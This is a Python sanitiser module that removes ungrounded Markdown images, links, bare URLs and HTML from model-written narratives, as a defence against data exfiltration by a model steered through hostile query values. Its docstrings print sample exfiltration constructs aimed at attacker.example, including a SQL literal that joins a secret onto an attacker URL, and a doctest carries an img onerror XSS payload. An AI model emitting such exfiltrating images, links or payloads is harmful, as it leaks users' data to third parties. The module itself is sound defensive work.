"""Links, images and markup in a narrative must come from the result.

A narrative is shown where Markdown or HTML is rendered: the dashboard, an MCP client's
chat, a notebook. A model steered by a hostile value can write an image whose address carries
the data (``![x](https://attacker.example/?d=...)``; a chat front end fetches it without a
click), a link to click, or HTML. ``strip_ungrounded`` keeps such a construct only when the
result itself holds it (its address, or the exact tag), and otherwise keeps just its words:

- a Markdown image or link (inline ``[text](target)``, reference definitions
  ``[ref]: target``, autolinks ``<scheme:...>``) whose target no result value contains: the
  image goes, a link keeps its text;
- a bare address (``https://``, ``www.``, ``javascript:``, ``data:`` ...) no result value
  contains: replaced by ``[link removed]``;
- an HTML tag, comment or declaration no result value contains: removed.

Grounding is exact (a substring of a cell or the question): an address that was
re-encoded, extended with data or cut is not in the result, so it goes. Column names are
not grounds: they are aliases the model wrote. Nor is a cell whose address the query itself
spelled out (``SELECT 'https://attacker.example/?d=' || secret``): a construct holding an
address or tag from one of the statement's string literals (``forged_fragments``) goes
even when a cell holds it.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterable
from dataclasses import dataclass

__all__ = ["Stripped", "forged_fragments", "grounding_texts", "strip_ungrounded"]

_TARGET = (
    r"\s*(?:<([^<>\n]*)>|([^\s()]*(?:\([^\s()]*\)[^\s()]*)*))"  # <target> or target(with)parens
    r"(?:\s+(?:\"[^\"\n]*\"|'[^'\n]*'|\([^()\n]*\)))?\s*"  # an optional title
)
_IMAGE = re.compile(r"!\[((?:[^\[\]\n]|\[[^\[\]\n]*\])*)\]\(" + _TARGET + r"\)")
_LINK = re.compile(r"\[((?:[^\[\]\n]|\[[^\[\]\n]*\])*)\]\(" + _TARGET + r"\)")
# A reference definition also counts inside a quotation or a list item.
_REF_DEF = re.compile(
    r"^(?:[ \t]{0,3}(?:>[ \t]?|[-+*][ \t]+|\d{1,9}[.)][ \t]+))*"
    r" {0,3}\[[^\]\n]+\]:[ \t]*<?(\S+?)>?(?:[ \t]+.*)?$",
    re.M,
)
_AUTOLINK = re.compile(r"<([A-Za-z][A-Za-z0-9+.-]{1,31}:[^\s<>]*|[^\s<>@]+@[^\s<>@]+\.[^\s<>@]+)>")
_URL = re.compile(
    r"(?:\b(?:https?|ftps?|file|javascript|vbscript|data|mailto|blob|ws|wss):|\bwww\.|(?<![\w/])//[\w-]+\.)"
    r"[^\s<>\"'`]*",
    re.I,
)
_TAG = re.compile(
    r"<!--.*?(?:-->|$)"  # comment
    r"|<![A-Za-z\[][^>]*>?"  # declaration, CDATA
    r"|<\?.*?(?:\?>|$)"  # processing instruction
    r"|</?[A-Za-z][A-Za-z0-9:-]*(?:\s[^<>]*)?/?>",  # open or close tag
    re.S,
)
_TRAILING = ".,;:!?)]}'\""
_REMOVED_LINK = "[link removed]"


@dataclass(frozen=True)
class Stripped:
    """A narrative with ungrounded links, images and markup taken out, and what was taken."""

    text: str
    removed: tuple[str, ...] = ()


def grounding_texts(
    rows: Iterable[Iterable[object]], *, also: Iterable[str] = ()
) -> tuple[str, ...]:
    """The texts a narrative's markup may come from: the cells and ``also`` (the question)."""
    out = [str(v) for row in rows for v in row if v is not None]
    out.extend(a for a in also if a)
    return tuple(out)


_LITERAL = re.compile(r"'((?:[^']|'')*)'")


def forged_fragments(sql: str | None) -> tuple[str, ...]:
    """The addresses and tags spelled out in ``sql``'s string literals: a cell holding one
    was made by the query, not found in the data.

    >>> forged_fragments("SELECT 'https://e.example/?d=' || token, '<b>' FROM t WHERE a = 'x'")
    ('https://e.example/?d=', '<b>')
    """
    out: list[str] = []
    for m in _LITERAL.finditer(sql or ""):
        literal = m.group(1).replace("''", "'")
        out.extend(u.group(0) for u in _URL.finditer(literal))
        out.extend(t.group(0) for t in _TAG.finditer(literal))
    return tuple(dict.fromkeys(f for f in out if f))


def strip_ungrounded(
    narrative: str, grounded: Iterable[str], *, forged: Iterable[str] = ()
) -> Stripped:
    """``narrative`` without links, images or markup that no text of ``grounded`` contains.

    >>> s = strip_ungrounded("Total 5. ![x](https://e.example/p?d=5) [see](https://e.example)",
    ...                      ["5"])
    >>> s.text
    'Total 5.  see'
    >>> strip_ungrounded("Visit https://shop.example now", ["https://shop.example"]).text
    'Visit https://shop.example now'
    >>> strip_ungrounded("a <b>bold</b> <img src=x onerror=alert(1)> claim", []).text
    'a bold  claim'
    """
    # Read only when the narrative holds a construct to look up: nearly every narrative
    # holds none, and ``grounded`` may be the cells of a thousand rows.
    texts: tuple[str, ...] | None = None
    made = tuple(f for f in forged if f)
    removed: list[str] = []

    def has(fragment: str) -> bool:
        nonlocal texts
        if not fragment:
            return False
        if texts is None:
            texts = tuple(grounded)
        return any(fragment in t for t in texts) and not any(f in fragment for f in made)

    def target_of(m: re.Match[str]) -> str:
        return (m.group(2) if m.group(2) is not None else m.group(3) or "").strip()

    def image(m: re.Match[str]) -> str:
        if has(m.group(0)) or has(target_of(m)):
            return m.group(0)
        removed.append(m.group(0))
        return ""

    def link(m: re.Match[str]) -> str:
        if has(m.group(0)) or has(target_of(m)):
            return m.group(0)
        removed.append(m.group(0))
        return m.group(1)

    def definition(m: re.Match[str]) -> str:
        if has(m.group(1)):
            return m.group(0)
        removed.append(m.group(0))
        return ""

    def autolink(m: re.Match[str]) -> str:
        if has(m.group(1)):
            return m.group(0)
        removed.append(m.group(0))
        return _REMOVED_LINK

    def bare(m: re.Match[str]) -> str:
        url = m.group(0)
        tail = ""
        while url and url[-1] in _TRAILING and not has(url):
            url, tail = url[:-1], url[-1] + tail  # sentence punctuation after an address
        if has(url) or url == _REMOVED_LINK:
            return url + tail
        removed.append(url)
        return _REMOVED_LINK + tail

    def tag(m: re.Match[str]) -> str:
        if has(m.group(0)):
            return m.group(0)
        removed.append(m.group(0))
        return ""

    text = narrative
    # Constructs with a target first (their text stays), then what is left of addresses.
    text = _IMAGE.sub(image, text)
    text = _LINK.sub(link, text)
    text = _REF_DEF.sub(definition, text)
    text = _AUTOLINK.sub(autolink, text)
    text = _TAG.sub(tag, text)
    text = _outside_links(text, bare)
    return Stripped(text, tuple(removed))


_KEPT = re.compile(_IMAGE.pattern + "|" + _LINK.pattern)


def _outside_links(text: str, bare: Callable[[re.Match[str]], str]) -> str:
    """Apply ``bare`` to addresses outside the Markdown links that were kept (a kept
    ``[t](url)`` must not lose its url to the bare-address pass)."""
    out: list[str] = []
    pos = 0
    for m in _KEPT.finditer(text):
        out.append(_URL.sub(bare, text[pos : m.start()]))
        out.append(m.group(0))
        pos = m.end()
    out.append(_URL.sub(bare, text[pos:]))
    return "".join(out)
